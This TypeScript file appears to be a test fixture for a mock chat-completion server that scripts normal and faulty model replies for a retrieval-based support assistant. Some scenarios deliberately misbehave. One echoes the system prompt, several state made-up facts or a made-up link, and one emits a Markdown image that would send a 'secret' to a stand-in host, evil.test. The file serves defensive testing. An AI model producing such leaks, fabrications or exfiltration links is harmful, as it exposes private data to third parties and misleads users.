import { type ChatRequest, quotationsOf, type Script, thinking } from "./openai.ts";

/**
 * Scripts by model name, so that each can be chosen by OPENAI_MODEL, by an agent's own `model`, or by a message that
 * contains `use-model:<name>`.
 */
const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script> = {
  /** Answers from the first passage, one word per delta. */
  answer: (request) => answerFrom(request),
  /** The same at 50 tokens a second. */
  steady: (request) => ({ ...answerFrom(request), pieceMs: 20 }),
  /** Fifty words at once. */
  instant: () => ({ text: ["@sources p1\n", "It is so. ".repeat(25)] }),
  unknown: () => ({ text: ["@unknown\n"] }),
  human: () => ({ text: ["@human\n"] }),
  unsupported: () => ({ text: ["@unsupported\n"] }),
  smalltalk: () => ({ text: ["@smalltalk\n", "You are welcome!"] }),
  "wrong-ids": () => ({ text: ["@sources p77 p99\n", "The moon is made of cheese."] }),
  "no-header": () => ({ text: ["The moon is made of cheese."] }),
  /** Large models that reply in a format of their own. */
  structured: (request) => ({ text: [JSON.stringify({ answer: firstSentence(request), citations: ["p1"], confidence: 0.9 })] }),
  "structured-fenced": (request) => ({
    text: ["```json\n", JSON.stringify({ answer: firstSentence(request), sources: "p1" }, null, 2), "\n```"],
  }),
  plain: (request) => ({ text: words(firstSentence(request)) }),
  /** Models of some three billion parameters: they add polite phrases, the ids of the prompt, Markdown, and a link that they made up. */
  small: (request) => ({
    text: words(
      `Great question! According to the passages, ${firstSentence(request)} (p1)\n\nFor more, see https://made-up.test/help.\n\n` +
        "The moon is made of cheese. Let me know if you have any other questions!",
    ),
  }),
  /** Declines in its own words. */
  sorry: () => ({ text: ["I'm sorry, but the provided passages do not mention that. ", "Please contact our support team."] }),
  reasoning: (request) => ({ ...answerFrom(request), reasoning: ["The visitor asks. ", "@unknown? No: p1 says it."] }),
  "reasoning-in-text": (request) => ({ text: words(`<think>\nThe visitor asks.\n@unknown\n</think>\n\n${firstSentence(request)}`) }),
  /** Two models that think until their tokens are used up: one unless thinking is switched off, the other always. */
  thinks: (request) => thinking(answerFrom(request))(request),
  "thinks-always": () => ({ reasoning: ["The visitor asks. ", "Let me think. "], finishReason: "length" }),
  markers: (request) => ({ text: [`${firstSentence(request)} [p1]`] }),
  "search-first": (request) =>
    request.messages.at(-1)?.role === "tool"
      ? answerFrom(request)
      : { toolCalls: [{ name: "search_knowledge", arguments: { query: questionOf(request) } }] },
  /** Asks for the tool that the message names, as `order_status {"order": "A1"}`, and quotes its result. */
  "use-tool": (request) => {
    if (request.messages.at(-1)?.role === "tool") return answerFromResult(request);
    const [, name = "", input = "{}"] = /(\w+) (\{.*\})/.exec(questionOf(request)) ?? [];
    return { toolCalls: [{ name, arguments: input }] };
  },
  "tool-human": () => ({ toolCalls: [{ name: "request_human", arguments: {} }] }),
  "tool-loop": (request, count) =>
    request.tool_choice === "none"
      ? { text: ["@unknown\n"] }
      : { toolCalls: [{ name: "search_knowledge", arguments: { query: `refunds ${count}` } }] },
  "status-401": () => ({ status: 401 }),
  "status-429": () => ({ status: 429, headers: { "Retry-After": "1" } }),
  "status-429-long": () => ({ status: 429, headers: { "Retry-After": "600" } }),
  "status-500": () => ({ status: 500 }),
  "status-503": () => ({ status: 503 }),
  "fails-once": (request, count) => (count % 2 === 1 ? { status: 503 } : answerFrom(request)),
  "slow-start": (request) => ({ ...answerFrom(request), delayMs: 3_000 }),
  silent: () => ({ text: ["never"], hangAt: 0 }),
  drip: (request) => ({ ...answerFrom(request), pieceMs: 500 }),
  stuck: (request) => ({ ...answerFrom(request), hangAt: 4 }),
  "cut-off": (request) => ({ ...answerFrom(request), breakAt: 5 }),
  "ends-early": (request) => ({ ...answerFrom(request), endAt: 5 }),
  malformed: (request) => ({ ...answerFrom(request), rawAt: { 4: "data: {not json\n\n" } }),
  empty: () => ({ text: [] }),
  html: () => ({ contentType: "text/html", body: "<html><body>Bad gateway</body></html>" }),
  whole: () => ({
    contentType: "application/json",
    body: JSON.stringify({ choices: [{ message: { content: "@unknown" }, finish_reason: "stop" }] }),
  }),
  endless: () => ({ text: ["@sources p1\n"], isEndless: true }),
  leak: (request) => ({ text: ["@sources p1\n", String(request.messages[0]?.content)] }),
  link: () => ({ text: ["@sources p1\n", "See ![chart](https://evil.test/?q=secret) there."] }),
};

/** The names of the models, as the server lists them. */
export const MODELS = Object.keys(SCENARIOS);

/** The script for a request. */
export function scenarioOf(request: ChatRequest, count: number): Script {
  const wanted = /use-model:([\w-]+)/.exec(questionOf(request))?.[1] ?? request.model;
  const scenario = SCENARIOS[wanted];
  return scenario ? scenario(request, count) : { status: 404, body: JSON.stringify({ error: { message: `No model ${wanted}` } }) };
}

function answerFrom(request: ChatRequest): Script {
  const sentence = firstSentence(request);
  return sentence === "" ? { text: ["@unknown\n"] } : { text: ["@sources", " p1", "\n", ...words(sentence)] };
}

function words(text: string): string[] {
  return text.split(/(?<= )/);
}

function answerFromResult(request: ChatRequest): Script {
  const result = quotationsOf(request).findLast(({ label }) => label === "result t1");
  return { text: [result ? `@sources t1\nThe tool says: ${result.text}` : "@unknown\n"] };
}

function firstSentence(request: ChatRequest): string {
  const passage = quotationsOf(request).find(({ label }) => label === "passage p1")?.text ?? "";
  return passage.split("\n\n").slice(1).join(" ").replaceAll(/\s+/g, " ").trim().slice(0, 400);
}

function questionOf(request: ChatRequest): string {
  return quotationsOf(request).findLast(({ label }) => label === "visitor")?.text ?? "";
}
